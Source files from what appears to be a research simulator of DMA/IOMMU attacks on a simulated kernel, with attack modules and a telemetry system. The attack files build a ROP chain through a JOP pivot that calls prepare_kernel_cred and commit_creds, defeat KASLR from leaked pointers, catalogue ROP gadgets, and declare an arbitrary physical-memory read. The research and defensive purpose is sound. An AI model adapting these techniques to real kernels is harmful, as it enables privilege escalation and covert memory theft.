  // The persistent-surveillance variant: reads `len` bytes from an arbitrary
  // physical page by planting a forged frag in a forwarded packet (§5.5).
  static Result<std::vector<uint8_t>> SurveillanceRead(const AttackEnv& env,
                                                       const KaslrKnowledge& knowledge,
                                                       uint64_t target_pfn, uint32_t offset,
                                                       uint32_t len, uint32_t remote_ip);
};

}  // namespace spv::attack

#endif  // SPV_ATTACK_ATTACKS_H_
