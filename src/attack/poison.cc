#include "attack/poison.h"

#include <cstring>

#include "mem/kernel_symbols.h"

namespace spv::attack {

namespace {

void PutU64(std::vector<uint8_t>& image, uint64_t offset, uint64_t value) {
  std::memcpy(image.data() + offset, &value, 8);
}

}  // namespace

Result<std::vector<uint8_t>> BuildPoisonImage(const KaslrKnowledge& knowledge,
                                              uint64_t ubuf_kva) {
  static_assert(PoisonLayout::kRopOffset == mem::kSymJopPivotConst,
                "ROP stack must sit where the pivot lands");
  Result<uint64_t> pivot = knowledge.SymbolAddress(mem::kSymJopStackPivot);
  if (!pivot.ok()) {
    return pivot.status();
  }
  std::vector<uint8_t> image(PoisonLayout::kImageBytes, 0);

  // ubuf_info: callback -> JOP pivot; ctx carries the image KVA (handy for
  // debugging; the real attack doesn't need it).
  PutU64(image, PoisonLayout::kUbufOffset + 0, *pivot);     // callback
  PutU64(image, PoisonLayout::kUbufOffset + 8, ubuf_kva);   // ctx

  // ROP chain: prepare_kernel_cred -> mov rax,rdi -> commit_creds -> halt.
  PutU64(image, PoisonLayout::kRopOffset + 0,
         *knowledge.SymbolAddress(mem::kSymPrepareKernelCred));
  PutU64(image, PoisonLayout::kRopOffset + 8,
         *knowledge.SymbolAddress(mem::kSymGadgetMovRdiRax));
  PutU64(image, PoisonLayout::kRopOffset + 16,
         *knowledge.SymbolAddress(mem::kSymCommitCreds));
  PutU64(image, PoisonLayout::kRopOffset + 24, 0);  // terminator

  PutU64(image, PoisonLayout::kMarkerOffset, PoisonLayout::kMarker);
  return image;
}

std::vector<uint8_t> BuildMarkerImage() {
  std::vector<uint8_t> image(PoisonLayout::kImageBytes, 0);
  PutU64(image, PoisonLayout::kMarkerOffset, PoisonLayout::kMarker);
  return image;
}

}  // namespace spv::attack
