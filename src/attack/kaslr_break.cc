#include "attack/kaslr_break.h"

#include <sstream>

#include "base/align.h"

namespace spv::attack {

namespace {
constexpr uint64_t kLow21 = (1ull << 21) - 1;
constexpr uint64_t kGiB = 1ull << 30;
}  // namespace

std::string KaslrKnowledge::ToString() const {
  std::ostringstream out;
  auto fmt = [&](const char* name, const std::optional<uint64_t>& value) {
    out << name << "=";
    if (value.has_value()) {
      out << std::hex << "0x" << *value << std::dec;
    } else {
      out << "?";
    }
    out << " ";
  };
  fmt("text_base", text_base);
  fmt("vmemmap_base", vmemmap_base);
  fmt("page_offset_base", page_offset_base);
  return out.str();
}

void KaslrBreaker::Consume(std::span<const uint64_t> qwords) {
  for (uint64_t value : qwords) {
    ConsumeOne(value);
  }
}

void KaslrBreaker::ConsumeOne(uint64_t value) {
  ++stats_.qwords_seen;
  switch (mem::KernelLayout::ClassifyByRange(Kva{value})) {
    case mem::Region::kKernelText: {
      ++stats_.text_pointers;
      // init_net signature: low 21 bits survive the 2 MiB-aligned slide.
      if ((value & kLow21) == (mem::kSymInitNet & kLow21)) {
        const uint64_t candidate = value - mem::kSymInitNet;
        if (IsAligned(candidate - mem::LayoutRanges::kTextStart, mem::kTextAlign) &&
            candidate >= mem::LayoutRanges::kTextStart &&
            candidate < mem::LayoutRanges::kTextEnd) {
          ++stats_.init_net_hits;
          knowledge_.text_base = candidate;
        }
      }
      break;
    }
    case mem::Region::kVmemmap:
      ++stats_.vmemmap_pointers;
      // 1 GiB-aligned base; the struct-page array fits under 1 GiB.
      knowledge_.vmemmap_base = AlignDown(value, kGiB);
      break;
    case mem::Region::kDirectMap:
      ++stats_.direct_map_pointers;
      // 1 GiB-aligned base; physical memory fits under 1 GiB on our machines.
      knowledge_.page_offset_base = AlignDown(value, kGiB);
      break;
    default:
      break;
  }
}

}  // namespace spv::attack
