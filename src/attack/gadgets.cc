#include "attack/gadgets.h"

namespace spv::attack {

std::string GadgetKindName(GadgetKind kind) {
  switch (kind) {
    case GadgetKind::kJopStackPivot:
      return "jop: rsp = rdi + const";
    case GadgetKind::kPopRdi:
      return "pop rdi; ret";
    case GadgetKind::kPopRsi:
      return "pop rsi; ret";
    case GadgetKind::kMovRaxRdi:
      return "mov rax, rdi; ret";
    case GadgetKind::kRet:
      return "ret";
    case GadgetKind::kPrepareKernelCred:
      return "prepare_kernel_cred";
    case GadgetKind::kCommitCreds:
      return "commit_creds";
    case GadgetKind::kBenignDestructor:
      return "benign ubuf destructor";
  }
  return "?";
}

GadgetCatalog GadgetCatalog::Default() {
  GadgetCatalog catalog;
  catalog.Add(mem::kSymJopStackPivot, GadgetKind::kJopStackPivot);
  catalog.Add(mem::kSymGadgetPopRdi, GadgetKind::kPopRdi);
  catalog.Add(mem::kSymGadgetPopRsi, GadgetKind::kPopRsi);
  catalog.Add(mem::kSymGadgetMovRdiRax, GadgetKind::kMovRaxRdi);
  catalog.Add(mem::kSymGadgetRet, GadgetKind::kRet);
  catalog.Add(mem::kSymPrepareKernelCred, GadgetKind::kPrepareKernelCred);
  catalog.Add(mem::kSymCommitCreds, GadgetKind::kCommitCreds);
  catalog.Add(kSymBenignUbufDestructor, GadgetKind::kBenignDestructor);
  return catalog;
}

}  // namespace spv::attack
