// Gadget catalog: what lives at which offset in the kernel image.
//
// Stands in for a real kernel binary scanned with ROPgadget [61]. The catalog
// maps image offsets to gadget semantics; the MiniCpu executes those
// semantics when control flow reaches the corresponding (KASLR-slid) KVA.
// Everything outside the text mapping is non-executable (NX, §2.4).

#ifndef SPV_ATTACK_GADGETS_H_
#define SPV_ATTACK_GADGETS_H_

#include <cstdint>
#include <optional>
#include <string>
#include <unordered_map>

#include "base/types.h"
#include "mem/kernel_symbols.h"

namespace spv::attack {

enum class GadgetKind {
  kJopStackPivot,      // %rsp = %rdi + const; jmp -- the §6 pivot
  kPopRdi,             // pop %rdi; ret
  kPopRsi,             // pop %rsi; ret
  kMovRaxRdi,          // mov %rax, %rdi; ret
  kRet,                // ret
  kPrepareKernelCred,  // rax = fresh root cred
  kCommitCreds,        // install cred in rdi -> privilege escalation
  kBenignDestructor,   // a legitimate ubuf callback (no-op)
};

std::string GadgetKindName(GadgetKind kind);

class GadgetCatalog {
 public:
  // Builds the default catalog from the well-known symbol offsets.
  static GadgetCatalog Default();

  void Add(uint64_t image_offset, GadgetKind kind) { by_offset_[image_offset] = kind; }

  std::optional<GadgetKind> Find(uint64_t image_offset) const {
    auto it = by_offset_.find(image_offset);
    if (it == by_offset_.end()) {
      return std::nullopt;
    }
    return it->second;
  }

  size_t size() const { return by_offset_.size(); }

 private:
  std::unordered_map<uint64_t, GadgetKind> by_offset_;
};

// A benign destructor offset for legitimate zero-copy paths.
inline constexpr uint64_t kSymBenignUbufDestructor = 0x00472860;

}  // namespace spv::attack

#endif  // SPV_ATTACK_GADGETS_H_
