#include "telemetry/telemetry.h"

#include <algorithm>
#include <bit>
#include <cassert>

#include "base/exec.h"

namespace spv::telemetry {

namespace {

struct KindName {
  EventKind kind;
  std::string_view name;
};

// Kept in declaration order; names are the stable export vocabulary.
constexpr KindName kKindNames[] = {
    {EventKind::kDmaMap, "dma_map"},
    {EventKind::kDmaUnmap, "dma_unmap"},
    {EventKind::kDmaSync, "dma_sync"},
    {EventKind::kCpuAccess, "cpu_access"},
    {EventKind::kIotlbInvalidate, "iotlb_invalidate"},
    {EventKind::kIommuFlush, "iommu_flush"},
    {EventKind::kIommuFault, "iommu_fault"},
    {EventKind::kStaleIotlbHit, "stale_iotlb_hit"},
    {EventKind::kSlabAlloc, "slab_alloc"},
    {EventKind::kSlabFree, "slab_free"},
    {EventKind::kFragAlloc, "frag_alloc"},
    {EventKind::kFragFree, "frag_free"},
    {EventKind::kNicRx, "nic_rx"},
    {EventKind::kNicTx, "nic_tx"},
    {EventKind::kNicTxReset, "nic_tx_reset"},
    {EventKind::kXdpDrop, "xdp_drop"},
    {EventKind::kXdpTx, "xdp_tx"},
    {EventKind::kStackDeliver, "stack_deliver"},
    {EventKind::kStackForward, "stack_forward"},
    {EventKind::kStackDrop, "stack_drop"},
    {EventKind::kStackSend, "stack_send"},
    {EventKind::kStackEcho, "stack_echo"},
    {EventKind::kAttackStage, "attack_stage"},
    {EventKind::kDkasanReport, "dkasan_report"},
    {EventKind::kSpadeFinding, "spade_finding"},
    {EventKind::kFaultInjected, "fault_injected"},
    {EventKind::kFaultRecovered, "fault_recovered"},
    {EventKind::kNicRxError, "nic_rx_error"},
    {EventKind::kSpanOpen, "span_open"},
    {EventKind::kSpanClose, "span_close"},
    {EventKind::kWindowOpen, "window_open"},
    {EventKind::kWindowClose, "window_close"},
    {EventKind::kHealthBreach, "health_breach"},
    {EventKind::kDeviceQuarantined, "device_quarantined"},
    {EventKind::kDeviceReattached, "device_reattached"},
    {EventKind::kDeviceDetached, "device_detached"},
    {EventKind::kDeviceFencedAccess, "device_fenced_access"},
    {EventKind::kNicPollDeadline, "nic_poll_deadline"},
    {EventKind::kNvmeSubmit, "nvme_submit"},
    {EventKind::kNvmeComplete, "nvme_complete"},
    {EventKind::kNvmeCompletionError, "nvme_completion_error"},
    {EventKind::kNvmeQueueReset, "nvme_queue_reset"},
    {EventKind::kNvmePollDeadline, "nvme_poll_deadline"},
    {EventKind::kTrustPromoted, "trust_promoted"},
    {EventKind::kTrustDemoted, "trust_demoted"},
    {EventKind::kBounceMap, "bounce_map"},
    {EventKind::kBounceUnmap, "bounce_unmap"},
    {EventKind::kIncidentOpen, "incident_open"},
    {EventKind::kIncidentReport, "incident_report"},
    {EventKind::kBounceSyncCpu, "bounce_sync_cpu"},
    {EventKind::kBounceSyncDevice, "bounce_sync_device"},
};

constexpr std::string_view kSeverityNames[] = {"trace", "info", "warn", "critical"};

}  // namespace

std::string_view SeverityName(Severity severity) {
  const auto index = static_cast<size_t>(severity);
  return index < std::size(kSeverityNames) ? kSeverityNames[index] : "?";
}

std::optional<Severity> SeverityFromName(std::string_view name) {
  for (size_t i = 0; i < std::size(kSeverityNames); ++i) {
    if (kSeverityNames[i] == name) {
      return static_cast<Severity>(i);
    }
  }
  return std::nullopt;
}

std::string_view EventKindName(EventKind kind) {
  for (const KindName& entry : kKindNames) {
    if (entry.kind == kind) {
      return entry.name;
    }
  }
  return "?";
}

std::optional<EventKind> EventKindFromName(std::string_view name) {
  for (const KindName& entry : kKindNames) {
    if (entry.name == name) {
      return entry.kind;
    }
  }
  return std::nullopt;
}

// ---- Histogram -----------------------------------------------------------------

void Histogram::Record(uint64_t v) {
  while (record_lock_.test_and_set(std::memory_order_acquire)) {
  }
  ++buckets_[static_cast<size_t>(std::bit_width(v))];
  ++count_;
  sum_ += v;
  min_ = std::min(min_, v);
  max_ = std::max(max_, v);
  record_lock_.clear(std::memory_order_release);
}

double Histogram::Mean() const {
  return count_ == 0 ? 0.0 : static_cast<double>(sum_) / static_cast<double>(count_);
}

uint64_t Histogram::PercentileUpperBound(double p) const {
  if (count_ == 0) {
    return 0;
  }
  p = std::clamp(p, 0.0, 100.0);
  // Rank of the percentile sample (1-based, ceiling — the "nearest rank"
  // definition, deterministic for integer counts).
  const uint64_t rank = std::max<uint64_t>(
      1, static_cast<uint64_t>((p / 100.0) * static_cast<double>(count_) + 0.9999999));
  uint64_t seen = 0;
  for (size_t i = 0; i < buckets_.size(); ++i) {
    seen += buckets_[i];
    if (seen >= rank) {
      return i == 0 ? 0 : (i >= 64 ? UINT64_MAX : (uint64_t{1} << i) - 1);
    }
  }
  return max_;
}

Histogram::Summary Histogram::Summarize() const {
  Summary s;
  s.count = count_;
  s.sum = sum_;
  s.min = min();
  s.max = max_;
  s.mean = Mean();
  s.p50 = PercentileUpperBound(50.0);
  s.p90 = PercentileUpperBound(90.0);
  s.p99 = PercentileUpperBound(99.0);
  return s;
}

std::vector<Histogram::Bucket> Histogram::NonZeroBuckets() const {
  std::vector<Bucket> out;
  for (size_t i = 0; i < buckets_.size(); ++i) {
    if (buckets_[i] != 0) {
      const uint64_t upper = i == 0 ? 0 : (i >= 64 ? UINT64_MAX : (uint64_t{1} << i) - 1);
      out.push_back(Bucket{upper, buckets_[i]});
    }
  }
  return out;
}

// ---- TraceRing -----------------------------------------------------------------

TraceRing::TraceRing(size_t capacity) : capacity_(std::max<size_t>(capacity, 1)) {
  slots_.resize(capacity_);
}

bool TraceRing::Push(Event event) {
  if (event.severity < min_severity_) {
    ++filtered_;
    return false;
  }
  event.seq = next_seq_;
  Event& slot = slots_[next_seq_ % capacity_];
  if (next_seq_ >= capacity_) {
    // Overwriting a live record: account the loss under the severity of what
    // is being lost, not of what is being written.
    ++dropped_by_severity_[static_cast<size_t>(slot.severity)];
  }
  slot = std::move(event);
  ++next_seq_;
  return true;
}

uint64_t TraceRing::dropped() const {
  uint64_t total = 0;
  for (uint64_t d : dropped_by_severity_) {
    total += d;
  }
  return total;
}

size_t TraceRing::size() const {
  return next_seq_ < capacity_ ? static_cast<size_t>(next_seq_) : capacity_;
}

std::vector<Event> TraceRing::Snapshot() const {
  std::vector<Event> out;
  out.reserve(size());
  const uint64_t first = next_seq_ > capacity_ ? next_seq_ - capacity_ : 0;
  for (uint64_t seq = first; seq < next_seq_; ++seq) {
    out.push_back(slots_[seq % capacity_]);
  }
  return out;
}

void TraceRing::Clear() {
  for (Event& slot : slots_) {
    slot = Event{};
  }
  next_seq_ = 0;
  filtered_ = 0;
  dropped_by_severity_.fill(0);
}

// ---- Hub -----------------------------------------------------------------------

Hub::Hub() : Hub(Config{}) {}

Hub::Hub(Config config) : enabled_(config.enabled), ring_(config.ring_capacity) {
  ring_.set_min_severity(config.min_severity);
}

Hub::~Hub() { StopDrainer(); }

void Hub::Publish(Event event) {
  if (clock_ != nullptr && event.cycle == 0) {
    // Producer-side stamp: in MT mode this reads the calling sim CPU's own
    // clock (thread-local routing), so timestamps stay meaningful even
    // though the drainer dispatches later.
    event.cycle = clock_->now();
  }
  if (mt_) {
    auto& ring = *mt_rings_[CurrentCpu().value % mt_rings_.size()];
    if (!ring.TryPush(std::move(event))) {
      mt_dropped_.fetch_add(1, std::memory_order_relaxed);
    }
    return;
  }
  Dispatch(std::move(event));
}

void Hub::Dispatch(Event event) {
  if (event.span == 0) {
    event.span = current_span_;
  }
  if (enabled_) {
    ring_.Push(event);  // Push copies seq into its slot; sinks see seq 0
  }
  for (EventSink* sink : sinks_) {
    sink->OnEvent(event);
  }
}

void Hub::EnableMt(uint32_t num_producers) {
  assert(!mt_ && "EnableMt is one-way and must precede worker start");
  // Sized for bursts: a worker can publish a few events per simulated op and
  // the drainer may lag a whole scheduling quantum on a loaded host.
  constexpr size_t kPerProducerRing = 16384;
  mt_rings_.clear();
  const uint32_t producers = std::max<uint32_t>(num_producers, 1);
  mt_rings_.reserve(producers);
  for (uint32_t i = 0; i < producers; ++i) {
    mt_rings_.push_back(std::make_unique<SpscRing<Event>>(kPerProducerRing));
  }
  registry_mu_.Engage();
  mt_ = true;
}

size_t Hub::DrainMtRings() {
  size_t drained = 0;
  Event event;
  for (auto& ring : mt_rings_) {
    while (ring->TryPop(&event)) {
      Dispatch(std::move(event));
      ++drained;
    }
  }
  return drained;
}

void Hub::StartDrainer() {
  if (!mt_ || drainer_.joinable()) {
    return;
  }
  drainer_stop_.store(false, std::memory_order_release);
  drainer_ = std::thread([this] {
    while (!drainer_stop_.load(std::memory_order_acquire)) {
      if (DrainMtRings() == 0) {
        std::this_thread::yield();
      }
    }
  });
}

void Hub::StopDrainer() {
  if (!drainer_.joinable()) {
    return;
  }
  drainer_stop_.store(true, std::memory_order_release);
  drainer_.join();
  // Producers have joined before StopDrainer (RunOnCpus ordering), so this
  // final sweep leaves every ring empty.
  DrainMtRings();
}

void Hub::AddSink(EventSink* sink) {
  assert(sink != nullptr);
  sinks_.push_back(sink);
}

void Hub::RemoveSink(EventSink* sink) {
  sinks_.erase(std::remove(sinks_.begin(), sinks_.end(), sink), sinks_.end());
}

Counter& Hub::counter(std::string_view name) {
  std::lock_guard<MaybeMutex> guard(registry_mu_);
  auto it = counters_.find(name);
  if (it == counters_.end()) {
    it = counters_.emplace(std::string(name), Counter{}).first;
  }
  return it->second;
}

Histogram& Hub::histogram(std::string_view name) {
  std::lock_guard<MaybeMutex> guard(registry_mu_);
  auto it = histograms_.find(name);
  if (it == histograms_.end()) {
    it = histograms_.emplace(std::string(name), Histogram{}).first;
  }
  return it->second;
}

uint64_t Hub::counter_value(std::string_view name) const {
  std::lock_guard<MaybeMutex> guard(registry_mu_);
  auto it = counters_.find(name);
  return it == counters_.end() ? 0 : it->second.value();
}

}  // namespace spv::telemetry
