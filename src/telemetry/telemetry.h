// spv::telemetry — the one instrumentation spine of the simulated host.
//
// Every layer (IOMMU, IOTLB, DMA API, slab, page_frag, NIC driver, network
// stack, attacks, D-KASAN, SPADE) publishes events through a single Hub
// instead of keeping private tallies. The Hub provides:
//
//   * typed Counters and log2-bucketed Histograms, registered by name in a
//     deterministic (sorted) registry;
//   * a fixed-capacity single-writer trace ring of timestamped Events with
//     severity filtering and drop accounting — overwritten slots are counted,
//     never silently lost;
//   * deterministic JSON / CSV exporters (sorted names, fixed field order, no
//     wall-clock time) that benches consume instead of ad-hoc tallies, and
//     that tools/trace_cli replays as a timeline.
//
// The Hub is also the fan-out path for functional observers: the classic
// DmaObserver / SlabObserver interfaces are bridged onto EventSinks (see
// dma/observer.h, slab/observer.h), so D-KASAN and telemetry ride the same
// dispatch. Sinks always receive events; *recording* (ring + counters) is
// gated by `enabled` so a disabled Hub with no sinks costs one branch per
// emit site (components guard with `active()` before building an Event).

#ifndef SPV_TELEMETRY_TELEMETRY_H_
#define SPV_TELEMETRY_TELEMETRY_H_

#include <array>
#include <atomic>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <string>
#include <string_view>
#include <thread>
#include <vector>

#include "base/clock.h"
#include "base/maybe_mutex.h"
#include "base/spsc_ring.h"

namespace spv::telemetry {

// ---- Events --------------------------------------------------------------------

enum class Severity : uint8_t {
  kTrace = 0,     // high-frequency plumbing (CPU accesses, slab traffic)
  kInfo = 1,      // normal operation milestones (maps, packets, flushes)
  kWarn = 2,      // suspicious (IOMMU faults, TX resets, attack stages)
  kCritical = 3,  // security findings (stale IOTLB hits, D-KASAN reports)
};

std::string_view SeverityName(Severity severity);
std::optional<Severity> SeverityFromName(std::string_view name);

enum class EventKind : uint8_t {
  // DMA API layer.
  kDmaMap,
  kDmaUnmap,
  kDmaSync,
  kCpuAccess,
  // IOMMU / IOTLB.
  kIotlbInvalidate,
  kIommuFlush,
  kIommuFault,
  kStaleIotlbHit,
  // Allocators.
  kSlabAlloc,
  kSlabFree,
  kFragAlloc,
  kFragFree,
  // NIC driver / network stack.
  kNicRx,
  kNicTx,
  kNicTxReset,
  kXdpDrop,
  kXdpTx,
  kStackDeliver,
  kStackForward,
  kStackDrop,
  kStackSend,
  kStackEcho,
  // Analyses and attack harnesses.
  kAttackStage,
  kDkasanReport,
  kSpadeFinding,
  // Fault injection (spv::fault) and the recovery paths it exercises.
  kFaultInjected,   // the engine fired a fault at an instrumented site
  kFaultRecovered,  // a consumer recovered (refill retry, TX requeue, ...)
  kNicRxError,      // driver dropped a completion (bad length, device fault)
  // Causal span layer (spv::trace). Span events carry their own id in
  // `span`, the parent id in `addr`, and the span name in `site`.
  kSpanOpen,
  kSpanClose,
  // Vulnerability windows (trace::WindowTracker). `addr2` is the IOVA page,
  // `aux` the open duration in cycles on close.
  kWindowOpen,
  kWindowClose,
  // Device lifecycle supervision (spv::recovery). `device` names the device;
  // `aux` carries the health score (breach) or the re-attach attempt count.
  kHealthBreach,        // health score crossed the quarantine threshold
  kDeviceQuarantined,   // mappings revoked, DMA fenced, rings torn down
  kDeviceReattached,    // supervised re-attach placed the device on probation
  kDeviceDetached,      // retry budget exhausted; permanently detached
  kDeviceFencedAccess,  // a fenced device attempted DMA (post-quarantine)
  kNicPollDeadline,     // a driver polling loop hit its bounded deadline
  // NVMe block driver / controller (spv::nvme). `aux` carries the CID on
  // submit/complete; `len` the transfer bytes.
  kNvmeSubmit,           // SQE written and the SQ doorbell rung
  kNvmeComplete,         // a valid CQE matched an outstanding command
  kNvmeCompletionError,  // CQE rejected (bad CID / phase / status / short)
  kNvmeQueueReset,       // watchdog flushed an IO queue and re-initialized it
  kNvmePollDeadline,     // a CQ polling loop hit its bounded deadline
  // Device trust policy (spv::policy). `aux` carries the new TrustState on
  // transitions; `flag` marks a refusal (hysteresis cooldown) on promote.
  kTrustPromoted,   // device moved up the trust ladder (or a refusal, flag=1)
  kTrustDemoted,    // device dropped back behind bounce buffers
  // Bounce-buffer pool (dma::BouncePool). `addr` is the original KVA, `addr2`
  // the bounce IOVA; `aux` carries the copy cycles spent.
  kBounceMap,
  kBounceUnmap,
  // Incident forensics (spv::forensics). `aux` carries the inferred attack
  // class on kIncidentReport; `site` the trigger / classification name.
  kIncidentOpen,    // a trigger event froze the flight-recorder evidence
  kIncidentReport,  // the incident report was sealed and classified
  // Sync-mode bounce rings (degraded service). Same field layout as
  // kBounceMap/kBounceUnmap: `addr` the original KVA, `addr2` the bounce
  // IOVA, `aux` the copy cycles spent by the sync.
  kBounceSyncCpu,     // bounce slot copied out so the CPU sees device writes
  kBounceSyncDevice,  // bounce slot scrubbed/copied in and re-armed for DMA
};

std::string_view EventKindName(EventKind kind);
std::optional<EventKind> EventKindFromName(std::string_view name);

// One timestamped record. Field meaning is kind-specific but consistent:
// `addr` is the primary (kernel-virtual) address, `addr2` the secondary
// address (usually the IOVA), `aux` carries rights / kinds / counts and
// `flag` a kind-specific boolean (is_write, success, ...).
struct Event {
  uint64_t seq = 0;    // stamped by the trace ring; monotonic, never reset
  uint64_t cycle = 0;  // SimClock time, stamped by the Hub when bound
  EventKind kind = EventKind::kDmaMap;
  Severity severity = Severity::kInfo;
  uint32_t device = 0;
  uint64_t addr = 0;
  uint64_t addr2 = 0;
  uint64_t len = 0;
  uint64_t aux = 0;
  bool flag = false;
  // Causal span id (spv::trace). 0 = no enclosing span. Stamped by the Hub
  // from its current-span register when the emitter leaves it 0.
  uint64_t span = 0;
  // The emitting component, for observer bridging (never exported). Lets one
  // Hub serve several DmaApis / pools without cross-talk between bridges.
  const void* origin = nullptr;
  std::string site;  // call site or free-form detail
};

// A consumer on the bus. Sinks see every published Event regardless of the
// Hub's enabled flag — functional consumers (D-KASAN) must not go blind when
// recording is off.
class EventSink {
 public:
  virtual ~EventSink() = default;
  virtual void OnEvent(const Event& event) = 0;
};

// ---- Metrics -------------------------------------------------------------------

// Counters are relaxed atomics so cached Counter* pointers (the idiom every
// hot component uses) stay valid bump targets from concurrent sim CPUs in
// ExecMode::kThreads. Relaxed is enough: counters are statistics, read only
// at quiescence or for monotonic progress checks.
class Counter {
 public:
  Counter() = default;
  Counter(const Counter& other) : value_(other.value()) {}
  Counter& operator=(const Counter& other) {
    value_.store(other.value(), std::memory_order_relaxed);
    return *this;
  }

  void Add(uint64_t n = 1) { value_.fetch_add(n, std::memory_order_relaxed); }
  void Set(uint64_t v) { value_.store(v, std::memory_order_relaxed); }
  uint64_t value() const { return value_.load(std::memory_order_relaxed); }

 private:
  std::atomic<uint64_t> value_{0};
};

// log2-bucketed histogram: bucket i counts samples whose bit width is i
// (bucket 0 holds v == 0). Upper bound of bucket i>0 is 2^i - 1.
class Histogram {
 public:
  static constexpr size_t kBuckets = 65;

  void Record(uint64_t v);

  uint64_t count() const { return count_; }
  uint64_t sum() const { return sum_; }
  uint64_t min() const { return count_ ? min_ : 0; }
  uint64_t max() const { return max_; }
  double Mean() const;
  // Upper bound of the bucket containing the p-th percentile (p in [0,100]).
  uint64_t PercentileUpperBound(double p) const;

  // The summary quantiles every consumer wants, derived once here instead of
  // re-derived by hand in each bench. Quantiles are bucket upper bounds
  // (nearest-rank over the log2 buckets), matching PercentileUpperBound.
  struct Summary {
    uint64_t count = 0;
    uint64_t sum = 0;
    uint64_t min = 0;
    uint64_t max = 0;
    double mean = 0.0;
    uint64_t p50 = 0;
    uint64_t p90 = 0;
    uint64_t p99 = 0;
  };
  Summary Summarize() const;

  struct Bucket {
    uint64_t upper_bound;
    uint64_t count;
  };
  std::vector<Bucket> NonZeroBuckets() const;

  Histogram() = default;
  // Copyable for map emplacement; the spinlock is per-instance state, not data.
  Histogram(const Histogram& other)
      : buckets_(other.buckets_),
        count_(other.count_),
        sum_(other.sum_),
        min_(other.min_),
        max_(other.max_) {}

 private:
  // Record is a multi-field update; a spinlock keeps concurrent recorders
  // (kThreads mode) consistent at ~1 uncontended RMW of cost. Readers run at
  // quiescence (after workers join), so the read side stays lock-free.
  std::array<uint64_t, kBuckets> buckets_{};
  uint64_t count_ = 0;
  uint64_t sum_ = 0;
  uint64_t min_ = UINT64_MAX;
  uint64_t max_ = 0;
  std::atomic_flag record_lock_ = ATOMIC_FLAG_INIT;
};

// ---- Trace ring ----------------------------------------------------------------

// Fixed-capacity single-writer ring. No allocation or rebalancing on the push
// path (slot index is seq % capacity); the oldest record is overwritten when
// full and accounted as dropped. A severity floor filters before recording.
class TraceRing {
 public:
  explicit TraceRing(size_t capacity);

  void set_min_severity(Severity severity) { min_severity_ = severity; }
  Severity min_severity() const { return min_severity_; }

  // Returns true if the event was recorded (not severity-filtered).
  bool Push(Event event);

  // Live records, oldest first.
  std::vector<Event> Snapshot() const;

  size_t capacity() const { return capacity_; }
  size_t size() const;
  uint64_t recorded() const { return next_seq_; }
  // Overwritten (lost) records, total and per overwritten-record severity.
  // A full ring churning kTrace events must not mask the loss of a kCritical
  // security finding, so drops are accounted by what was overwritten.
  uint64_t dropped() const;
  uint64_t dropped(Severity severity) const {
    return dropped_by_severity_[static_cast<size_t>(severity)];
  }
  uint64_t filtered() const { return filtered_; }

  void Clear();

 private:
  size_t capacity_;
  std::vector<Event> slots_;
  uint64_t next_seq_ = 0;  // count of accepted events; next slot = seq % capacity
  uint64_t filtered_ = 0;
  std::array<uint64_t, 4> dropped_by_severity_{};
  Severity min_severity_ = Severity::kTrace;
};

// ---- Hub -----------------------------------------------------------------------

class Hub {
 public:
  struct Config {
    bool enabled = false;  // recording off by default: zero-cost instrumentation
    size_t ring_capacity = 4096;
    Severity min_severity = Severity::kTrace;
  };

  Hub();  // all-default Config
  explicit Hub(Config config);
  ~Hub();

  Hub(const Hub&) = delete;
  Hub& operator=(const Hub&) = delete;

  // Events are stamped with clock->now() once a clock is bound.
  void BindClock(const SimClock* clock) { clock_ = clock; }

  bool enabled() const { return enabled_; }
  void set_enabled(bool on) { enabled_ = on; }

  // True if Publish would do any work — emit sites guard Event construction
  // with this so a disabled Hub with no sinks costs one branch.
  bool active() const { return enabled_ || !sinks_.empty(); }

  // Records (when enabled), then fans out to every sink (always). In MT mode
  // (EnableMt) the calling sim CPU instead stamps the cycle from its per-CPU
  // clock and pushes into its own SPSC ring — wait-free — and the single
  // drainer performs the recording/fan-out with the sequential code path.
  void Publish(Event event);

  // ---- kThreads support ----------------------------------------------------------
  // One SPSC ring per producer (sim CPU); a single drainer merges them into
  // the ordinary dispatch path, so the trace ring and sinks stay
  // single-writer. Full rings drop (with accounting) rather than block: the
  // telemetry hot path must stay wait-free under contention.

  // Must be called at machine bring-up, before any worker thread publishes.
  void EnableMt(uint32_t num_producers);
  bool mt() const { return mt_; }

  // Drainer lifecycle; Machine::RunOnCpus brackets parallel sections with
  // these. StopDrainer performs a final drain, so after it returns every
  // published event has been recorded or accounted as dropped.
  void StartDrainer();
  void StopDrainer();
  // Consumer-side merge of all producer rings; returns events dispatched.
  // Single-consumer: only the drainer thread (or the coordinator while no
  // drainer runs) may call this.
  size_t DrainMtRings();
  // Events lost to full producer rings.
  uint64_t mt_dropped() const { return mt_dropped_.load(std::memory_order_relaxed); }

  // Current-span register (spv::trace::Tracer maintains it). Publish stamps
  // `event.span` from it when the emitter left the field 0, so every event
  // inside an open span is causally linked without per-site plumbing.
  void set_current_span(uint64_t span) { current_span_ = span; }
  uint64_t current_span() const { return current_span_; }

  void AddSink(EventSink* sink);
  void RemoveSink(EventSink* sink);
  size_t sink_count() const { return sinks_.size(); }

  // Named metrics. References are stable for the Hub's lifetime.
  Counter& counter(std::string_view name);
  Histogram& histogram(std::string_view name);
  // Value of a counter, or 0 when it was never touched (read-only lookup).
  uint64_t counter_value(std::string_view name) const;

  const std::map<std::string, Counter, std::less<>>& counters() const { return counters_; }
  const std::map<std::string, Histogram, std::less<>>& histograms() const {
    return histograms_;
  }
  TraceRing& ring() { return ring_; }
  const TraceRing& ring() const { return ring_; }

  // ---- Deterministic exporters -------------------------------------------------
  // Sorted names, fixed field order, simulated time only: identical runs
  // produce byte-identical output.

  // Counters + histograms + trace (events included up to `max_trace_events`).
  std::string ExportJson(size_t max_trace_events = SIZE_MAX) const;
  // "name,value" per counter.
  std::string ExportCountersCsv() const;
  // One CSV row per ring event; consumed by tools/trace_cli.
  std::string ExportTraceCsv() const;

 private:
  // Sequential dispatch: span stamping, ring recording, sink fan-out. The
  // direct Publish path in sequential mode; the drainer's merge path in MT.
  void Dispatch(Event event);

  bool enabled_;
  const SimClock* clock_ = nullptr;
  uint64_t current_span_ = 0;
  TraceRing ring_;
  std::vector<EventSink*> sinks_;
  std::map<std::string, Counter, std::less<>> counters_;
  std::map<std::string, Histogram, std::less<>> histograms_;
  // MT state. registry_mu_ guards only the *structure* of the metric maps
  // (lazy name registration); the Counters/Histograms themselves are
  // internally synchronized, so cached references stay lock-free.
  bool mt_ = false;
  mutable MaybeMutex registry_mu_;
